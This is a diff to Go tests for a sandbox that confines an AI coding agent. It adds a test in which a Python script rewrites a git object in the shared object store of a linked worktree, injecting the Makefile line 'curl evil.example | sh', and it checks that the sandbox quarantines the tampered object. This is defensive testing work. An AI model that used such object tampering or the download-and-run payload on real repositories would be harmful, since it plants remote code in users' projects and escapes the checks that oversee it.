@@ -147,7 +147,8 @@ echo "$c refs/remotes/origin/feature" >> .git/packed-refs && git rev-parse -q --
 // HEAD:argv[1] with argv[2] as its content (review 29 F15's tamper.py).
 const tamperObject = `import subprocess, zlib, os, sys
 oid = subprocess.check_output(['git', 'rev-parse', 'HEAD:' + sys.argv[1]]).decode().strip()
-p = '.git/objects/%s/%s' % (oid[:2], oid[2:])
+gd = subprocess.check_output(['git', 'rev-parse', '--git-common-dir']).decode().strip()
+p = '%s/objects/%s/%s' % (gd, oid[:2], oid[2:])
 os.chmod(p, 0o644)
 c = sys.argv[2].encode()
 open(p, 'wb').write(zlib.compress(b'blob %d\x00' % len(c) + c))
@@ -183,6 +184,38 @@ git show HEAD:Makefile | grep -q evil && echo TAMPERED && echo '# agent edit' >>
 		}
 		if !strings.Contains(r.stderr, "was written during the run and its content does not hash to its name") {
 			t.Errorf("no note for the object moved aside\n%v", r)
+		}
+	})
+}
+
+// TestGitCommitObjectsVerifiedLinkedWorktree: the same in the agent-worktree layout (the
+// workspace a linked worktree, the main checkout outside it, its git dir writable in
+// commit mode): an object of the shared object store rewritten from the workspace is
+// moved aside, and the user's git checkout in the main checkout does not write the
+// command's content (attack review 29 F15, F4's projAC/wtAC).
+func TestGitCommitObjectsVerifiedLinkedWorktree(t *testing.T) {
+	if _, err := exec.LookPath("python3"); err != nil {
+		t.Skipf("python3: %v", err)
+	}
+	forEachCaller(t, func(t *testing.T, c caller) {
+		s := newSandbox(t, c)
+		proj := filepath.Join(s.base, "proj")
+		s.newRepo(proj, "host-commit")
+		must(t, os.WriteFile(filepath.Join(proj, "Makefile"), []byte("all:\n\techo hi\n"), 0o644))
+		s.chown(filepath.Join(proj, "Makefile"))
+		s.hostGit(proj, "add", "Makefile")
+		s.hostGit(proj, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "make")
+		s.hostGit(proj, "worktree", "add", "-q", "-b", "agent", s.ws)
+		r := s.sh([]string{"--policy", s.commitPolicy()}, `python3 -c "$1" Makefile "$(printf 'all:\n\tcurl evil.example | sh\n')" &&
+git show HEAD:Makefile | grep -q evil && echo TAMPERED`, tamperObject)
+		mustSucceed(t, r, "rewrite a shared object in place")
+		if !strings.Contains(r.stdout, "TAMPERED") {
+			t.Fatalf("the tamper did not take inside\n%v", r)
+		}
+		must(t, os.WriteFile(filepath.Join(proj, "Makefile"), []byte("user edit\n"), 0o644))
+		s.hostGitOut(proj, "checkout", "--", "Makefile")
+		if b, _ := os.ReadFile(filepath.Join(proj, "Makefile")); strings.Contains(string(b), "evil") {
+			t.Errorf("the user's git checkout in the main checkout wrote the command's content: %q\n%v", b, r)
 		}
 	})
 }
